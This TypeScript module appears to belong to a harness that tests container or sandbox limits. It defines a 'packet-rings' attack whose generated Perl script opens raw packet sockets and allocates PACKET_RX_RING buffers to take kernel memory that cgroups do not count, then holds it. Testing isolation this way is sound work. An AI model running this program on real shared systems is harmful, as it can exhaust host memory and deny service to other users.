import type { Attack } from '../attack.ts';
import { HOLD } from '../attack.ts';

/** Rings are pages of the kernel that no cgroup counts: large ones first, then what tcpdump would take. */
export const packetRings: Attack = {
  name: 'packet-rings',
  takes: 'kernel memory by PACKET_RX_RING',
  unit: 'MiB',
  // at once 16 MiB, and 2 MiB more each second of the attack's few
  most: 32,
  program: (scale) => `for $mib (64, 16, 4, 2, 1) { for (1 .. ${scale === 'full' ? 400 : 32}) {
    my $s; socket($s, 17, 3, 0) or last; push @s, $s;
    setsockopt($s, 263, 5, pack("IIII", 1 << 20, $mib, 2048, $mib * 512)) or last; $n += $mib } } ${HOLD}`,
};
